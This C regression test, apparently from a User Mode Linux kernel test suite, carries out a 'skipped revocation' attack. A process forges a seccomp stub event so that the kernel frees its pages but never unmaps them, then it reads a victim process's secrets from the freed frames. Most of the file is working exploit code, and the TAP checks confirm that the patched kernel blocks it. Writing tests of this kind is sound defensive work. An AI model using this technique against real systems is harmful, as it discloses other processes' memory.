// SPDX-License-Identifier: GPL-2.0
/*
 * Attack: skipped revocation (seccomp mode, x86_64).
 *
 * The attacker A fakes a park of its own stub: it writes a SIGSYS event
 * for madvise(R, 64 pages, MADV_DONTNEED) into the stub data page (a
 * siginfo and an mcontext it builds on the stub's signal stack) and
 * reports it to the UML kernel the way the stub would:
 *   - futex protocol (unpatched): set the futex to "in kernel" and
 *     FUTEX_WAKE the kernel, then wait for it to answer;
 *   - park protocol (patched): sched_yield from the stub code page, the
 *     syscall the filter turns into a user notification.
 * Both are issued from the stub code page through hijack.h's gadget.
 * The kernel runs the madvise for A, which clears the PTEs and frees the
 * 64 frames, and queues munmap(R) in the data page for the stub. A never
 * runs that batch. It then lives on as a normal process (its next real
 * system call is a genuine park, so the kernel is back in step), wakes a
 * victim V that allocates 32 MiB and fills every page with a secret
 * (a per-run nonce, its page index and per-word values), and reads R.
 *
 * The protocol is detected from the stub code page (the instruction
 * that loads the futex or the sched_yield syscall number); the header
 * fields of the data page are found from the values the stub left there
 * (si_offset - mctx_offset is 264 in an x86_64 rt_sigframe). The verdict
 * comes only from what A and V observe:
 *   succeeded     A read V's secret through R: a frame the kernel freed
 *                 and gave to V was still host-mapped in A;
 *   refused       in every attempt A was killed once it had faked the
 *                 park, or R read as fresh memory (zero pages the guest
 *                 had to fault in again: the host mapping was gone);
 *   inconclusive  anything else (no stub found, unknown protocol, a host
 *                 signal racing the fake park, a stale R whose frames
 *                 the victim did not get).
 * Up to three attempts are made, each with a new A and V; one success
 * is enough for "succeeded". An attempt that a host signal took over
 * (the real stub handler ran, with the batch, so nothing was skipped)
 * is not counted and made again, up to RACE_RETRIES times.
 *
 * Pass (the patched behaviour): no victim data read; the revocation is
 * enforced (A killed or its mapping gone) and the kernel counted the
 * kill (stub_stats revocation_kills grew over the attempts); afterwards
 * the guest runs a new process and V's own data is intact. In ptrace mode the stub
 * reports nothing through its data page (no signal frame is ever left
 * there), so the attack does not apply and its points are skipped.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/futex.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/ucontext.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include "tap.h"
#include "hijack.h"
#include "stub_stats.h"

#define PAGE		4096UL
#define R_PAGES		64		/* pages A gets freed behind its back */
#define V_PAGES		8192		/* 32 MiB the victim fills */
#define ATTEMPTS	3
#define RACE_RETRIES	5		/* raced attempts made again */
#define A_TIMEOUT	60		/* seconds for one attacker run */
#define FAKE_TRIES	5		/* fake parks the kernel did not see */
#define SENTINEL	0x5eed5eed5eed5eedUL

/* Where the fake event lives on the stub signal stack (second data page). */
#define MC_OFF		0
#define FP_OFF		256
#define SI_OFF		768

/* x86_64 rt_sigframe: siginfo at 312, uc_mcontext at 48. */
#define SI_MINUS_MC	264

enum proto { PROTO_UNKNOWN, PROTO_FUTEX, PROTO_PARK };
static const char *const proto_name[] = { "unknown", "futex", "park" };

enum stage {
	ST_NONE, ST_SETUP, ST_FAKED, ST_ANSWERED, ST_VICTIM_GO,
	ST_VICTIM_FILLED, ST_READ,
};
static const char *const stage_name[] = {
	"before setup", "setup done", "fake park issued",
	"fake park answered", "victim woken", "victim filled", "R read",
};

/* Per page of R, after the victim filled its memory. */
enum cls { CLS_OWN, CLS_VICTIM, CLS_ZERO, CLS_OTHER };

/* Shared between the parent, A and V (MAP_SHARED, set up before fork). */
struct report {
	volatile int stage;
	int proto;
	int hdr;			/* offset of si_offset in the data page */
	int fake_tries;
	int raced;			/* a host signal took over the fake park */
	long fake_ret;			/* madvise result seen in the fake mcontext */
	long park_ret;			/* result of the fake park itself */
	int batch_len;			/* entries the kernel queued for the stub */
	int batch_type;
	unsigned long batch_addr, batch_length;
	char why[160];			/* setup failure */
	int count[4];			/* pages of R per enum cls */
	int present_after;		/* R pages present in the guest after reading */
	int victim_filled;
	int victim_bad;			/* V pages that lost their secret */
	unsigned long a_pfn[R_PAGES];
	unsigned long v_pfn[V_PAGES];
};

static struct report *rep;
static uint64_t nonce;

static uint64_t secret_word(unsigned long vpage, unsigned long i)
{
	return (nonce ^ (vpage << 32) ^ i) * 0x9e3779b97f4a7c15ULL;
}

static void fill_secret(uint64_t *w, unsigned long vpage)
{
	unsigned long i;

	w[0] = nonce ^ 0x5ec2e75ec2e75ec2ULL;
	w[1] = vpage;
	for (i = 2; i < PAGE / 8; i++)
		w[i] = secret_word(vpage, i);
}

static int is_secret(const volatile uint64_t *w)
{
	unsigned long i, vpage;

	if (w[0] != (nonce ^ 0x5ec2e75ec2e75ec2ULL))
		return 0;
	vpage = w[1];
	if (vpage >= V_PAGES)
		return 0;
	for (i = 2; i < PAGE / 8; i++)
		if (w[i] != secret_word(vpage, i))
			return 0;
	return 1;
}

static uint64_t own_word(unsigned long page, unsigned long i)
{
	return 0xa77ac4e2a77ac4e2ULL ^ (page << 24) ^ i;
}

/* Frames of [addr, addr + pages * PAGE) from /proc/self/pagemap; 0 = absent. */
static int read_pfns(unsigned long addr, unsigned long pages,
		     unsigned long *pfn)
{
	uint64_t e;
	unsigned long i;
	int fd = open("/proc/self/pagemap", O_RDONLY);

	if (fd < 0)
		return -1;
	for (i = 0; i < pages; i++) {
		if (pread(fd, &e, sizeof(e), (addr / PAGE + i) * 8) != 8) {
			close(fd);
			return -1;
		}
		pfn[i] = (e >> 63) ? (e & ((1ULL << 55) - 1)) : 0;
	}
	close(fd);
	return 0;
}

/* ---- the victim -------------------------------------------------------- */

static int victim(int go_r, int done_w)
{
	unsigned long p;
	uint64_t *mem = NULL;
	char c;

	/* The attacker may be gone by the time V reports. */
	signal(SIGPIPE, SIG_IGN);
	for (;;) {
		if (read(go_r, &c, 1) != 1 || c != 'g')
			break;
		if (mem)
			continue;
		mem = mmap(NULL, V_PAGES * PAGE, PROT_READ | PROT_WRITE,
			   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (mem == MAP_FAILED)
			return 3;
		for (p = 0; p < V_PAGES; p++)
			fill_secret(mem + p * (PAGE / 8), p);
		read_pfns((unsigned long)mem, V_PAGES, rep->v_pfn);
		rep->victim_filled = 1;
		if (write(done_w, "d", 1) != 1)
			continue;
	}
	if (!mem)
		return 0;
	for (p = 0; p < V_PAGES; p++)
		if (!is_secret(mem + p * (PAGE / 8)))
			rep->victim_bad++;
	return rep->victim_bad ? 1 : 0;
}

/* ---- the attacker ------------------------------------------------------ */

static unsigned char landing_stack[16384] __attribute__((aligned(16)));
static void *landing_jmp[5];

/*
 * Where A resumes if a host signal hit it while the kernel was working
 * on the fake event: the real stub handler then parked, the kernel wrote
 * the fake registers into the real frame and the stub returned to them.
 */
static void __attribute__((noinline, noreturn)) landing(void)
{
	rep->raced = 1;
	__builtin_longjmp(landing_jmp, 1);
}

static void setup_fail(const char *what)
{
	snprintf(rep->why, sizeof(rep->why), "%s", what);
}

/* Find the protocol from the stub code page. */
static int detect_proto(const unsigned char *code)
{
	static const unsigned char park[] = { 0xb8, 0x18, 0, 0, 0, 0x0f, 0x05 };
	static const unsigned char futex[] = { 0xb8, 0xca, 0, 0, 0 };
	int has_park = 0, has_futex = 0;
	unsigned long off;

	for (off = 0; off + sizeof(park) <= PAGE; off++) {
		if (!memcmp(code + off, park, sizeof(park)))
			has_park = 1;
		if (!memcmp(code + off, futex, sizeof(futex)))
			has_futex = 1;
	}
	if (has_park && !has_futex)
		return PROTO_PARK;
	if (has_futex && !has_park)
		return PROTO_FUTEX;
	return PROTO_UNKNOWN;
}

/* Offset of si_offset in the data page, from what the last park left. */
static int find_header(const unsigned char *data)
{
	int o;

	for (o = 3800; o <= (int)PAGE - 4; o += 2) {
		uint16_t si = *(const uint16_t *)(data + o);
		uint16_t mc = *(const uint16_t *)(data + o + 2);

		if (si < PAGE && mc < PAGE && si == mc + SI_MINUS_MC &&
		    si >= 1024)
			return o;
	}
	return -1;
}

/* Build the fake SIGSYS event for madvise(R, len, MADV_DONTNEED). */
static void build_event(unsigned char *data, int hdr, unsigned long r,
			unsigned long len)
{
	unsigned char *ss = data + PAGE;
	mcontext_t *mc = (mcontext_t *)(ss + MC_OFF);
	struct _libc_fpstate *fp = (struct _libc_fpstate *)(ss + FP_OFF);
	siginfo_t *si = (siginfo_t *)(ss + SI_OFF);
	unsigned long sp = (unsigned long)landing_stack + sizeof(landing_stack);

	memset(mc, 0, sizeof(*mc));
	memset(fp, 0, sizeof(*fp));
	memset(si, 0, sizeof(*si));
	fp->cwd = 0x37f;
	fp->mxcsr = 0x1f80;
	fp->mxcr_mask = 0xffff;
	mc->fpregs = fp;
	mc->gregs[REG_RAX] = SENTINEL;
	mc->gregs[REG_RDI] = r;
	mc->gregs[REG_RSI] = len;
	mc->gregs[REG_RDX] = MADV_DONTNEED;
	mc->gregs[REG_RIP] = (unsigned long)landing;
	mc->gregs[REG_RSP] = sp - 8;
	mc->gregs[REG_EFL] = 0x202;
	mc->gregs[REG_CSGSFS] = 0x33 | (0x2bUL << 48);
	si->si_signo = SIGSYS;
	si->si_code = 1;	/* SYS_SECCOMP */
	si->si_syscall = __NR_madvise;
	si->si_arch = 0xc000003e;	/* AUDIT_ARCH_X86_64 */

	/* Header last: signal, si_offset, mctx_offset. */
	*(volatile int *)(data + hdr - 4) = SIGSYS;
	*(volatile uint16_t *)(data + hdr) = SI_OFF;
	*(volatile uint16_t *)(data + hdr + 2) = MC_OFF;
	__atomic_thread_fence(__ATOMIC_SEQ_CST);
}

/* Report the fake event as the stub would. 0 once answered, else -1. */
static int fake_park(const struct stub_hijack *h, unsigned char *data,
		     int hdr)
{
	if (rep->proto == PROTO_PARK) {
		rep->park_ret = hijack_syscall6(h, __NR_sched_yield,
						0, 0, 0, 0, 0, 0);
		return rep->park_ret ? -1 : 0;
	} else {
		volatile unsigned int *futex =
			(volatile unsigned int *)(data + hdr - 8);
		struct timespec ts = { 0, 10 * 1000 * 1000 };
		int i;

		__atomic_store_n(futex, 1, __ATOMIC_SEQ_CST);
		rep->park_ret = hijack_syscall6(h, __NR_futex, (long)futex,
						FUTEX_WAKE, 1, 0, 0, 0);
		for (i = 0; i < 1000 && *futex == 1; i++)
			hijack_syscall6(h, __NR_futex, (long)futex, FUTEX_WAIT,
					1, (long)&ts, 0, 0);
		return *futex == 1 ? -1 : 0;
	}
}

/* Make sure nothing A touches during the fake park can fault. */
static void __attribute__((noinline)) prefault(void)
{
	volatile unsigned char stack[128 * 1024];
	unsigned long i;

	for (i = 0; i < sizeof(stack); i += PAGE)
		stack[i] = 0;
	for (i = 0; i < sizeof(landing_stack); i += PAGE)
		landing_stack[i] = 0;
	mlockall(MCL_CURRENT);
}

static int attacker(int go_w, int done_r)
{
	struct stub_hijack h;
	unsigned long len = R_PAGES * PAGE, p, i;
	unsigned char *data;
	volatile uint64_t *r;
	struct pollfd pfd = { .fd = done_r, .events = POLLIN };
	unsigned long pfn_after[R_PAGES];
	sigset_t all;
	char c;
	int hdr, try;

	if (hijack_init(&h)) {
		setup_fail("hijack_init failed: stub or gadget not found");
		return 2;
	}
	data = (unsigned char *)h.data;
	rep->proto = detect_proto((const unsigned char *)h.code);
	if (rep->proto == PROTO_UNKNOWN) {
		setup_fail("unknown stub protocol: neither futex nor sched_yield park in the code page");
		return 2;
	}

	r = mmap(NULL, len, PROT_READ | PROT_WRITE,
		 MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (r == MAP_FAILED) {
		setup_fail("mmap R");
		return 2;
	}
	for (p = 0; p < R_PAGES; p++)
		for (i = 0; i < PAGE / 8; i++)
			r[p * (PAGE / 8) + i] = own_word(p, i);
	if (read_pfns((unsigned long)r, R_PAGES, rep->a_pfn)) {
		setup_fail("read /proc/self/pagemap");
		return 2;
	}
	sigfillset(&all);
	sigprocmask(SIG_BLOCK, &all, NULL);
	prefault();
	/* mlockall locked R too; MADV_DONTNEED refuses locked pages. */
	if (munlock((void *)r, len)) {
		setup_fail("munlock R");
		return 2;
	}

	/* A system call right before: the stub header is fresh. */
	getppid();
	hdr = find_header(data);
	if (hdr < 0) {
		setup_fail("no si_offset/mctx_offset pair in the stub data page");
		return 2;
	}
	rep->hdr = hdr;
	rep->stage = ST_SETUP;

	if (__builtin_setjmp(landing_jmp))
		return 3;	/* rep->raced is set */

	for (try = 0; try < FAKE_TRIES; try++) {
		mcontext_t *mc = (mcontext_t *)(data + PAGE + MC_OFF);

		build_event(data, hdr, (unsigned long)r, len);
		rep->stage = ST_FAKED;
		rep->fake_tries = try + 1;
		if (fake_park(&h, data, hdr))
			return 3;
		if (mc->gregs[REG_RAX] != SENTINEL &&
		    *(volatile uint16_t *)(data + hdr + 2) == MC_OFF) {
			rep->fake_ret = mc->gregs[REG_RAX];
			break;
		}
	}
	if (try == FAKE_TRIES)
		return 3;

	/* The batch the stub is expected to run: record it, then drop it. */
	rep->batch_len = *(volatile int *)(data + 8);
	if (rep->batch_len > 0) {
		rep->batch_addr = *(unsigned long *)(data + 16);
		rep->batch_length = *(unsigned long *)(data + 24);
		rep->batch_type = *(int *)(data + 16 + 32);
	}
	*(volatile int *)(data + 8) = 0;
	rep->stage = ST_ANSWERED;

	/* From here on A is an ordinary process again. */
	if (write(go_w, "g", 1) != 1)
		return 4;
	rep->stage = ST_VICTIM_GO;
	if (poll(&pfd, 1, 30000) != 1 || read(done_r, &c, 1) != 1)
		return 4;
	rep->stage = ST_VICTIM_FILLED;

	for (p = 0; p < R_PAGES; p++) {
		volatile uint64_t *w = r + p * (PAGE / 8);
		int cls = CLS_OTHER, own = 1, zero = 1;

		if (is_secret(w)) {
			cls = CLS_VICTIM;
		} else {
			for (i = 0; i < PAGE / 8; i++) {
				if (w[i] != own_word(p, i))
					own = 0;
				if (w[i])
					zero = 0;
			}
			if (own)
				cls = CLS_OWN;
			else if (zero)
				cls = CLS_ZERO;
		}
		rep->count[cls]++;
	}
	rep->stage = ST_READ;
	if (read_pfns((unsigned long)r, R_PAGES, pfn_after) == 0)
		for (p = 0; p < R_PAGES; p++)
			rep->present_after += pfn_after[p] != 0;
	return 0;
}

/* ---- the parent -------------------------------------------------------- */

enum verdict { V_SUCCEEDED, V_REFUSED, V_INCONCLUSIVE };
static const char *const verdict_name[] = {
	"succeeded", "refused", "inconclusive"
};

static pid_t wait_deadline(pid_t pid, int *status, int seconds)
{
	struct timespec pause = { 0, 50 * 1000 * 1000 };
	int i;

	for (i = 0; i < seconds * 20; i++) {
		pid_t got = waitpid(pid, status, WNOHANG);

		if (got == pid || (got < 0 && errno != EINTR))
			return got;
		nanosleep(&pause, NULL);
	}
	kill(pid, SIGKILL);
	waitpid(pid, status, 0);
	return 0;
}

static int frames_reused(void)
{
	int n = 0, a, v;

	for (a = 0; a < R_PAGES; a++)
		for (v = 0; v < V_PAGES && rep->a_pfn[a]; v++)
			if (rep->v_pfn[v] == rep->a_pfn[a]) {
				n++;
				break;
			}
	return n;
}

/* One attempt; fills DETAIL, returns a verdict; *victim_ok for V. */
static int attempt(int n, char *detail, size_t size, int *victim_ok)
{
	int go[2], done[2], st_a = 0, st_v = 0, verdict;
	pid_t a, v, got;

	memset(rep, 0, sizeof(*rep));
	*victim_ok = 0;
	if (pipe(go) || pipe(done)) {
		snprintf(detail, size, "pipe: %s", strerror(errno));
		return V_INCONCLUSIVE;
	}
	fflush(stdout);
	v = fork();
	if (v == 0) {
		close(go[1]);
		close(done[0]);
		_exit(victim(go[0], done[1]));
	}
	a = fork();
	if (a == 0) {
		close(go[0]);
		close(done[1]);
		_exit(attacker(go[1], done[0]));
	}
	close(go[0]);
	close(done[0]);
	close(done[1]);
	if (v < 0 || a < 0) {
		snprintf(detail, size, "fork: %s", strerror(errno));
		close(go[1]);
		return V_INCONCLUSIVE;
	}

	got = wait_deadline(a, &st_a, A_TIMEOUT);
	/* Let the victim check its own memory and end. */
	if (write(go[1], "x", 1) != 1)
		kill(v, SIGKILL);
	close(go[1]);
	if (wait_deadline(v, &st_v, 30) == v && WIFEXITED(st_v) &&
	    WEXITSTATUS(st_v) == 0)
		*victim_ok = 1;

	tap_diag("attempt %d: protocol %s, header at %d, stage '%s', fake parks %d, "
		 "park result %ld, madvise result %ld, batch %d x type %d "
		 "(%#lx+%#lx), R pages own/victim/zero/other %d/%d/%d/%d, "
		 "present after read %d, frames reused by victim %d, "
		 "victim %s (bad pages %d)",
		 n, proto_name[rep->proto], rep->hdr, stage_name[rep->stage],
		 rep->fake_tries, rep->park_ret, rep->fake_ret, rep->batch_len,
		 rep->batch_type, rep->batch_addr, rep->batch_length,
		 rep->count[CLS_OWN], rep->count[CLS_VICTIM],
		 rep->count[CLS_ZERO], rep->count[CLS_OTHER],
		 rep->present_after, frames_reused(),
		 *victim_ok ? "ok" : "FAILED", rep->victim_bad);

	if (rep->count[CLS_VICTIM] > 0) {
		snprintf(detail, size, "victim's secret read through %d of %d "
			 "stale pages (protocol %s, %d frames reused by the "
			 "victim)", rep->count[CLS_VICTIM], R_PAGES,
			 proto_name[rep->proto], frames_reused());
		verdict = V_SUCCEEDED;
	} else if (got == 0) {
		snprintf(detail, size, "attacker hung at stage '%s'",
			 stage_name[rep->stage]);
		verdict = V_INCONCLUSIVE;
	} else if (WIFSIGNALED(st_a)) {
		snprintf(detail, size, "attacker killed by signal %d at stage "
			 "'%s'", WTERMSIG(st_a), stage_name[rep->stage]);
		verdict = rep->stage >= ST_FAKED ? V_REFUSED : V_INCONCLUSIVE;
	} else if (!WIFEXITED(st_a) || WEXITSTATUS(st_a) == 2) {
		snprintf(detail, size, "setup failed: %s", rep->why);
		verdict = V_INCONCLUSIVE;
	} else if (rep->raced) {
		snprintf(detail, size, "a host signal took over the fake park");
		verdict = V_INCONCLUSIVE;
	} else if (WEXITSTATUS(st_a) == 3) {
		snprintf(detail, size, "fake park not answered (%d tries, "
			 "result %ld)", rep->fake_tries, rep->park_ret);
		verdict = V_INCONCLUSIVE;
	} else if (WEXITSTATUS(st_a) != 0) {
		snprintf(detail, size, "attacker failed at stage '%s'",
			 stage_name[rep->stage]);
		verdict = V_INCONCLUSIVE;
	} else if (rep->count[CLS_ZERO] == R_PAGES &&
		   rep->present_after == R_PAGES) {
		snprintf(detail, size, "stale mapping gone: all %d pages of R "
			 "were faulted in again as zero pages", R_PAGES);
		verdict = V_REFUSED;
	} else {
		snprintf(detail, size, "R not revoked (%d own, %d zero, %d "
			 "other pages, %d present) but no victim data in it",
			 rep->count[CLS_OWN], rep->count[CLS_ZERO],
			 rep->count[CLS_OTHER], rep->present_after);
		verdict = V_INCONCLUSIVE;
	}
	return verdict;
}

/* A fresh process maps, fills and checks memory, then exits. */
static int guest_alive(void)
{
	int status;
	pid_t pid = fork();

	if (pid == 0) {
		size_t len = 1 << 20, i;
		unsigned char *m = mmap(NULL, len, PROT_READ | PROT_WRITE,
					MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

		if (m == MAP_FAILED)
			_exit(1);
		for (i = 0; i < len; i++)
			m[i] = i * 7;
		for (i = 0; i < len; i++)
			if (m[i] != (unsigned char)(i * 7))
				_exit(1);
		_exit(0);
	}
	return pid > 0 && wait_deadline(pid, &status, 30) == pid &&
	       WIFEXITED(status) && WEXITSTATUS(status) == 0;
}

/*
 * Ptrace mode: the stub never takes a signal frame for a system call,
 * so its data page holds no si_offset/mctx_offset pair after one.
 * Returns 1 for ptrace mode, 0 for seccomp mode, -1 when the stub was
 * not found (no telling).
 */
static int ptrace_mode(void)
{
	struct stub_hijack h;

	if (hijack_init(&h))
		return -1;
	getppid();
	return find_header((const unsigned char *)h.data) < 0;
}

int main(void)
{
	char detail[512], last_refused[512] = "", last_other[512] = "";
	char summary[512];
	int n, verdict, result, tries = 0, refused = 0, raced = 0;
	int victim_ok = 1, setup_ok = 0;
	struct stub_stats before, after;
	struct timespec ts;

	tap_plan(5);
	if (ptrace_mode() == 1) {
		printf("    # attack: skipped_revocation inconclusive ptrace "
		       "mode: the stub reports no events through its data "
		       "page\n");
		tap_result(1, "stub found and protocol known # SKIP ptrace mode");
		tap_result(1, "no victim data read through a stale mapping # SKIP ptrace mode");
		tap_result(1, "skipped revocation refused # SKIP ptrace mode");
		tap_result(1, "refusal counted by the kernel # SKIP ptrace mode");
		tap_result(guest_alive(), "guest alive: a new process runs");
		return tap_exit_status();
	}

	rep = mmap(NULL, sizeof(*rep), PROT_READ | PROT_WRITE,
		   MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (rep == MAP_FAILED) {
		tap_diag("mmap report: %s", strerror(errno));
		return EXIT_FAILURE;
	}
	clock_gettime(CLOCK_MONOTONIC, &ts);
	nonce = ((uint64_t)ts.tv_nsec << 20) ^ ts.tv_sec ^
		((uint64_t)getpid() << 44) ^ 0x1234567887654321ULL;

	/*
	 * Only the attempts run between the two snapshots. A stub that
	 * parks without the munmaps of a revocation is killed and counted
	 * as a revocation kill (and, once the process is found dead, as a
	 * stub kill too); a correct guest causes neither.
	 */
	stub_stats_read(&before);
	verdict = V_INCONCLUSIVE;
	for (n = 0; tries < ATTEMPTS; n++) {
		int vok;

		result = attempt(n + 1, detail, sizeof(detail), &vok);
		victim_ok &= vok;
		setup_ok |= rep->stage >= ST_SETUP;
		if (result == V_INCONCLUSIVE && rep->raced &&
		    raced < RACE_RETRIES) {
			raced++;
			tap_diag("attempt %d: a host signal took over the fake "
				 "park; not counted, trying again", n + 1);
			continue;
		}
		tries++;
		if (result == V_SUCCEEDED) {
			verdict = V_SUCCEEDED;
			break;
		}
		if (result == V_REFUSED) {
			refused++;
			snprintf(last_refused, sizeof(last_refused), "%s", detail);
		} else {
			snprintf(last_other, sizeof(last_other), "%s", detail);
		}
	}
	if (verdict == V_SUCCEEDED) {
		snprintf(summary, sizeof(summary), "attempt %d: %.400s",
			 n + 1, detail);
	} else if (refused == tries) {
		verdict = V_REFUSED;
		snprintf(summary, sizeof(summary), "%d/%d attempts%s: %.400s",
			 refused, tries, raced ? " (and raced ones retried)" :
			 "", last_refused);
	} else {
		snprintf(summary, sizeof(summary), "%d/%d attempts refused; "
			 "last other: %.400s", refused, tries, last_other);
	}
	stub_stats_read(&after);
	printf("    # attack: skipped_revocation %s %s\n",
	       verdict_name[verdict], summary);
	fflush(stdout);

	tap_result(setup_ok, "stub found and protocol known (%s)",
		   proto_name[rep->proto]);
	tap_result(verdict != V_SUCCEEDED,
		   "no victim data read through a stale mapping");
	tap_result(verdict == V_REFUSED,
		   "skipped revocation refused: attacker killed or its stale mapping gone");
	stub_stats_expect_growth(&before, &after,
				 "revocation_kills",
				 "the skipped revocation");
	tap_result(victim_ok && guest_alive(),
		   "guest alive: victim data intact, a new process runs");
	return tap_exit_status();
}
